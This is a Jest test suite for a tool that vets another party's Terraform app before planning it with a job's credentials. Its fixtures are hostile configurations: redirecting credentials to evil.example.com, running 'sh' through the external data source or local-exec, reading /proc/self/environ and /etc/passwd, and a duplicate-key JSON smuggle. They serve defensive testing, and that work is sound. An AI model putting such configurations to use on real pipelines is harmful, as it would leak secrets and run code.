import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Refusal } from "../../../../lib/cli/endings";
import { copyStrangersApp, readAllowed } from "../../../../lib/cli/plan/strangers";
import { stacksIn } from "../../../../lib/cli/stacks";
import { PROVIDER_SOURCE } from "../../../../lib/contract";
import { writeApp } from "../../../support/stacks";

type Blocks = Readonly<Record<string, unknown>>;

const ADDRESS = "https://cm.example.com";
let root: string;
let app: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "strangers-"));
  app = join(root, "app");
});
afterEach(() => rmSync(root, { recursive: true }));

const account = { name: "payments", account_id: "123456789012", aws_connection: "aws", regions: ["eu-west-1"] };
const USUAL = { resource: { cckm_aws_kms_account: { payments: account } } };

function backendsFile(backends: unknown): string {
  const file = join(root, "backends.json");
  writeFileSync(file, JSON.stringify(backends));
  return file;
}

/** Copies an app with one stack into a folder; the copy, or the refusal's message. */
function copy(
  blocks: Blocks,
  { providers = "cckm", backends }: { providers?: string; backends?: unknown } = {},
): string {
  if (!existsSync(app)) {
    mkdirSync(app);
    writeApp(app, { prod: blocks });
  }
  const to = mkdtempSync(join(root, "copy-"));
  const file = backends === undefined ? undefined : backendsFile(backends);
  try {
    copyStrangersApp(app, [], readAllowed(providers, file, { CIPHERTRUST_ADDRESS: ADDRESS }), to);
    return to;
  } catch (error) {
    if (error instanceof Refusal) return error.message;
    throw error;
  }
}
const READ = `\${file("/proc/self/environ")}`;
const OWN = { cckm: { source: PROVIDER_SOURCE } };
const withSource = (name: string, source?: string) => ({
  required_providers: { ...OWN, [name]: source === undefined ? {} : { source } },
});

describe("an app of somebody else is refused to be planned with a job's credentials, where it", () => {
  test.each<[string, Blocks, RegExp]>([
    [
      "has another provider",
      { ...USUAL, terraform: withSource("aws", "hashicorp/aws") },
      /provider "aws" \("hashicorp\/aws"\)/,
    ],
    ["has it without a source", { ...USUAL, terraform: withSource("aws") }, /provider "aws" \("hashicorp\/aws"\)/],
    [
      "has it by a version alone",
      { ...USUAL, terraform: { required_providers: { aws: "~> 6.0" } } },
      /"hashicorp\/aws"/,
    ],
    [
      "has a provider of another host under a known name",
      { ...USUAL, terraform: withSource("null", "evil.example.com/hashicorp/null") },
      /evil\.example\.com/,
    ],
    [
      "has another provider under the name of cckm",
      { ...USUAL, terraform: { required_providers: { cckm: { source: "evil/cckm" } } } },
      /"evil\/cckm"/,
    ],
    ["has a resource whose provider Terraform guesses", { resource: { random_id: { a: {} } } }, /provider "random"/],
    [
      "has a data source whose provider Terraform guesses",
      { data: { http: { a: { url: "https://evil.example.com" } } } },
      /provider "http"/,
    ],
    [
      "has an ephemeral resource whose provider Terraform guesses",
      { ephemeral: { vault_kv_secret_v2: { a: {} } } },
      /provider "vault"/,
    ],
    ["has a provider's block alone", { provider: { cckm: [{}], http: {} } }, /provider "http"/],
    [
      "names a provider at a resource",
      { resource: { cckm_aws_kms_account: { a: { ...account, provider: "evil.x" } } } },
      /provider "evil"/,
    ],
    [
      "runs a program by external",
      { data: { external: { a: { program: ["sh"] } } } },
      /data\.external\.a runs a program/,
    ],
    [
      "has a provisioner",
      {
        resource: { cckm_aws_kms_account: { a: { ...account, provisioner: [{ "local-exec": { command: "env" } }] } } },
      },
      /resource\.cckm_aws_kms_account\.a has a provisioner/,
    ],
    [
      "has a provisioner in a list of a list",
      { resource: [{ cckm_aws_kms_account: [{ a: [{ ...account, provisioner: {} }] }] }] },
      /has a provisioner/,
    ],
    [
      "has a provisioner of what is removed",
      { ...USUAL, removed: [{ from: "cckm_aws_kms_account.a", provisioner: {} }] },
      /removed has a provisioner/,
    ],
    [
      "loads a module",
      { ...USUAL, module: { a: { source: "git::https://evil.example.com" } } },
      /the block "module" is not allowed/,
    ],
    [
      "checks with data of its own",
      { ...USUAL, check: { a: { data: { http: { b: {} } } } } },
      /the block "check" is not allowed/,
    ],
    [
      "runs its plans remotely",
      { ...USUAL, terraform: { cloud: { organization: "evil" } } },
      /terraform\.cloud is not allowed/,
    ],
    [
      "encrypts its state with a program",
      { ...USUAL, terraform: { encryption: { key_provider: { external: {} } } } },
      /terraform\.encryption is not allowed/,
    ],
    [
      "has a backend",
      { ...USUAL, terraform: { required_providers: OWN, backend: { http: { address: "https://evil.example.com" } } } },
      /the backend http is of a type that is not among/,
    ],
    [
      "reads another state",
      {
        ...USUAL,
        data: { terraform_remote_state: { a: { backend: "http", config: { address: "https://evil.example.com" } } } },
      },
      /data\.terraform_remote_state\.a is of a type/,
    ],
    [
      "sends the credentials elsewhere",
      { ...USUAL, provider: { cckm: [{ address: "https://evil.example.com" }] } },
      /"https:\/\/evil\.example\.com" is not that of CIPHERTRUST_ADDRESS \("https:\/\/cm\.example\.com"\)/,
    ],
    [
      "sends them elsewhere by an alias",
      { ...USUAL, provider: { cckm: [{}, { alias: "b", address: "https://evil.example.com" }] } },
      /evil\.example\.com/,
    ],
    [
      "sends them elsewhere by another name",
      {
        ...USUAL,
        terraform: withSource("keys", PROVIDER_SOURCE),
        provider: { keys: { address: "https://evil.example.com" } },
      },
      /evil\.example\.com/,
    ],
    [
      "computes where they go",
      { ...USUAL, provider: { cckm: [{ address: `\${local.a}` }] } },
      /is not that of CIPHERTRUST_ADDRESS/,
    ],
    [
      "turns off that the certificate is verified",
      { ...USUAL, provider: { cckm: [{ no_ssl_verify: true }] } },
      /has no_ssl_verify/,
    ],
    ["trusts an authority of its own", { ...USUAL, provider: { cckm: [{ ca_cert: "pem" }] } }, /has ca_cert/],
    [
      "sends them in the clear",
      { ...USUAL, provider: { cckm: [{ allow_plain_http: `\${true}` }] } },
      /has allow_plain_http/,
    ],
    [
      "reads the environment of the job",
      { ...USUAL, output: { a: { value: `\${file("/proc/self/environ")}` } } },
      /output\.a\.value calls file/,
    ],
    [
      "reads it with a comment in between",
      { ...USUAL, locals: { a: `x\${base64encode(file/**/("/proc/self/environ"))}` } },
      /locals\.a calls file/,
    ],
    [
      "reads it by a template",
      { ...USUAL, locals: { a: '%{ if templatefile("/etc/passwd", {}) == "" }%{ endif }' } },
      /calls templatefile/,
    ],
    [
      "makes an expression of a text",
      { ...USUAL, locals: { a: `\${templatestring(local.b, {})}` } },
      /calls templatestring/,
    ],
    ["reads it in a name", { ...USUAL, locals: { a: { [READ]: 1 } } }, /calls file/],
  ])("%s", (_, blocks, reason) => {
    const message = copy(blocks);
    expect(message).toMatch(reason);
    expect(message).toMatch(/^This is not planned with the credentials of this job:\n {2}prod: .*Nothing was started/s);
  });

  test.each<[string, string]>([
    ["another configuration", "more.tf"],
    ["another configuration in JSON", "more.tf.json"],
    ["a configuration of OpenTofu", "more.tofu"],
    ["values of variables", "x.auto.tfvars"],
    ["a state", "terraform.tfstate"],
  ])("has %s beside the one that is looked at", (_, file) => {
    mkdirSync(app);
    writeFileSync(join(writeApp(app, { prod: USUAL }).prod!, file), "");
    expect(copy(USUAL)).toContain(`prod: ${file} would be read beside cdk.tf.json`);
  });

  test("has a link, or no JSON at all", () => {
    mkdirSync(app);
    symlinkSync("/etc/passwd", join(writeApp(app, { prod: USUAL }).prod!, "asset"));
    expect(copy(USUAL)).toContain("asset is no regular file");
    rmSync(app, { recursive: true });
    mkdirSync(app);
    writeFileSync(join(app, "main.tf"), "");
    expect(copy(USUAL)).toContain("it has no cdk.tf.json");
  });

  test("has several faults, which are all told", () => {
    const message = copy({ ...USUAL, module: { a: {} }, data: { external: { a: {} } } });
    expect(message.match(/^ {2}prod: /gm)).toHaveLength(3);
  });
});

describe("an app of somebody else is planned as data", () => {
  test("without what an earlier run left, and with every name once", () => {
    mkdirSync(app);
    const own = writeApp(app, { prod: USUAL }).prod!;
    const written = { ...USUAL, terraform: { required_providers: OWN } };
    // A parser of JSON sees the second one alone, Terraform both.
    const twice = JSON.stringify(written).replace("{", '{"data":{"external":{"a":{"program":["sh"]}}},"data":{},');
    writeFileSync(join(own, "cdk.tf.json"), twice);
    for (const folder of [".terraform/providers", "terraform.d/plugins/evil", "assets"]) {
      mkdirSync(join(own, folder), { recursive: true });
      writeFileSync(join(own, folder, "file"), "content");
    }
    const [stack] = stacksIn(copy(USUAL));
    expect(stack).toMatchObject({ name: "prod", configuration: written });
    expect(readFileSync(join(stack!.folder, "cdk.tf.json"), "utf8")).not.toContain("external");
    expect(readFileSync(join(stack!.folder, "assets/file"), "utf8")).toBe("content");
    expect(existsSync(join(stack!.folder, ".terraform"))).toBe(false);
    expect(existsSync(join(stack!.folder, "terraform.d/plugins/evil"))).toBe(false);
  });

  test.each<[string, Blocks, object]>([
    [
      "a provider on the list",
      { ...USUAL, terraform: withSource("null", "hashicorp/null"), resource: { null_resource: { a: {} } } },
      { providers: "cckm, hashicorp/null" },
    ],
    [
      "one under its whole address",
      { ...USUAL, terraform: withSource("x", "registry.terraform.io/acme/x") },
      { providers: "acme/x" },
    ],
    ["the address that the credentials are for", { ...USUAL, provider: { cckm: [{ address: ADDRESS }] } }, {}],
    [
      "resources that are Terraform's own",
      { resource: { terraform_data: { a: { input: `\${local.file}` } } }, locals: { file: "a file" } },
      {},
    ],
    [
      "a backend on the list",
      {
        ...USUAL,
        terraform: {
          required_providers: OWN,
          backend: { http: { address: "https://state.example.com/prod", retry_max: 3 } },
        },
      },
      { backends: { http: { address: "https://state.example.com/*", retry_max: 3 } } },
    ],
    [
      "another state on the list",
      { ...USUAL, data: { terraform_remote_state: { a: { backend: "pg", config: { schema_name: "keys" } } } } },
      { backends: { pg: { schema_name: "*" } } },
    ],
  ])("with %s", (_, blocks, allowed) => {
    expect(stacksIn(copy(blocks, allowed))).toMatchObject([{ name: "prod" }]);
  });
});

describe("a backend on the list", () => {
  const http = (given: Blocks, allowed: object) =>
    copy(
      { ...USUAL, terraform: { required_providers: OWN, backend: { http: given } } },
      { backends: { http: allowed } },
    );

  test.each<[string, Blocks, RegExp]>([
    [
      "of another host",
      { address: "https://evil.example.com/prod" },
      /expected address to be "https:\/\/state\.example\.com\/\*", got "https:\/\/evil\.example\.com\/prod"/,
    ],
    [
      "with a lock elsewhere",
      { address: "https://state.example.com/a", lock_address: "https://evil.example.com" },
      /lock_address is not among/,
    ],
    [
      "that verifies no certificate",
      { address: "https://state.example.com/a", skip_cert_verification: true },
      /skip_cert_verification is not among/,
    ],
    ["on a way up", { address: "https://state.example.com/../x" }, /expected address to be/],
    ["that is computed", { address: `https://state.example.com/\${local.a}` }, /expected address to be/],
  ])("is refused %s", (_, given, reason) => {
    expect(http(given, { address: "https://state.example.com/*" })).toMatch(reason);
  });

  test("may be one of several", () => {
    const blocks = {
      ...USUAL,
      terraform: { required_providers: OWN, backend: { s3: { bucket: "b", key: "prod.tfstate" } } },
    };
    const s3 = [{ bucket: "a" }, { bucket: "b", key: "*.tfstate" }];
    expect(stacksIn(copy(blocks, { backends: { s3 } }))).toHaveLength(1);
  });

  test.each([["https://state.example.com*"], ["https://*.example.com/"], ["*/a/*"]])(
    "is not given as %s, which says too little",
    (address) => {
      expect(() => http({ address: "x" }, { address })).toThrow(
        /Expected one \*, and in an address only after the host/,
      );
    },
  );
});

test("a list of providers that is none is told with what is allowed", () => {
  expect(() => readAllowed("cckm,null", undefined, {})).toThrow(
    /Expected cckm, or addresses as hashicorp\/null .+, got "null"\./,
  );
});
